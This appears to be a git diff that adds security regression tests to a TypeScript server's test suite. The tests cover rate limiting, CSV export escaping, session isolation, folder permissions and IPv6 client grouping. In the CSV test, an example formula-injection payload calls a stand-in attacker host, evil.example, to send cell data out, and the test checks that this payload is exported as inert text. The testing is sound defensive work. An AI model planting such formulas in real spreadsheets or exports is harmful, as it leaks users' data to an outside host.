@@ -2,8 +2,16 @@
 import assert from "node:assert/strict";
 import { once } from "node:events";
 import { connect, type Socket } from "node:net";
+import { statSync } from "node:fs";
+import type { IncomingMessage } from "node:http";
+import { join } from "node:path";
+import { parse } from "csv-parse/sync";
 import { test } from "vitest";
 import { Random } from "../../../tools/random.mjs";
+import { clientOf } from "../../src/http/client";
+import { nameOf } from "../../src/room/chain";
+import { KIND } from "../../src/room/contents";
+import { eventOf, FOUNDER, Guild, LEDGER, SCOPE } from "../support/guild";
 import { searchSize } from "../support/long";
 import { type Served, serveFolder } from "../support/served";
 import { newFolder } from "../support/stored";
@@ -213,3 +221,61 @@ test("random requests are answered, none with an error of the program, and nothi
     assert.equal(await rows(), before);
     assert.ok(served.log.every((line) => (JSON.parse(line) as { level: number }).level < 50));
 }, 300_000);
+
+test("who has asked far too much waits for seconds, not for as long as it has asked", async () => {
+    const served = await serveFolder(newFolder(), [], true);
+    for (let round = 0; round < 8; round++) await Promise.all(Array.from({ length: 200 }, () => served.ask("/health")));
+    const { status, headers } = await served.ask("/health");
+    assert.equal(status, 429);
+    assert.ok(Number(headers["retry-after"]) <= 2, String(headers["retry-after"]));
+});
+
+test("cells of CSV that a spreadsheet would run are text there", async () => {
+    const served = await serveFolder();
+    const guild = new Guild();
+    guild.takeScope();
+    guild.write(FOUNDER, {
+        ...{ kind: KIND.about, ledger: LEDGER, scope: SCOPE, stateVersion: 1, names: [] },
+        types: [{ id: 1, name: Buffer.from('=HYPERLINK("http://evil.example/?"&A1)'), fields: [Buffer.from("x")] }],
+    });
+    guild.batch(FOUNDER, [eventOf(1, 0)]);
+    const body = guild.list.map((record) => `${JSON.stringify({ record: record.toString("base64") })}\n`).join("");
+    const room = nameOf(guild.room.id);
+    const [token, headers] = [served.token(), { "content-type": "application/jsonl" }];
+    assert.equal((await served.ask(`/rooms/${room}/records`, { token, method: "POST", headers, body })).status, 200);
+    for (const path of ["events?format=csv", "export?format=csv"]) {
+        const { text } = await served.ask(`/rooms/${room}/${path}`, { token });
+        const [, event] = parse(text);
+        assert.ok(event.includes(`'=HYPERLINK("http://evil.example/?"&A1)`), text);
+        for (const cell of event) assert.doesNotMatch(cell, /^[=+@\t\r-]/);
+    }
+});
+
+test("one reader's sessions end nobody else's", async () => {
+    const served = await serveFolder();
+    const signIn = async (token: string): Promise<string> => {
+        const headers = { "content-type": "application/json" };
+        const answer = await served.ask("/session", { method: "POST", headers, body: JSON.stringify({ token }) });
+        assert.equal(answer.status, 204, answer.text);
+        return String(answer.headers["set-cookie"]).split(";", 1)[0];
+    };
+    const cookie = await signIn(served.token());
+    const reader = served.token("00".repeat(32));
+    for (let at = 0; at < 1001; at++) await signIn(reader);
+    assert.equal((await served.ask("/rooms", { headers: { cookie } })).status, 200);
+});
+
+test("a folder that the server makes is for its user alone", { skip: process.platform === "win32" }, async () => {
+    const served = await serveFolder(join(newFolder(), "rooms"));
+    assert.equal(statSync(served.folder).mode & 0o777, 0o700);
+});
+
+test("limits by address count an IPv6 network as one", () => {
+    const of = (address: string): string =>
+        clientOf({ headers: { "x-forwarded-for": address }, socket: {} } as unknown as IncomingMessage, true).address;
+    assert.equal(of("2001:db8:1:2:3::4"), of("2001:db8:1:2:ffff:1:2:3"));
+    assert.notEqual(of("2001:db8:1:2::1"), of("2001:db8:1:3::1"));
+    assert.equal(of("::ffff:192.0.2.1"), of("192.0.2.1"));
+    assert.equal(of("::1"), "::1");
+    assert.equal(of("192.0.2.1"), "192.0.2.1");
+});
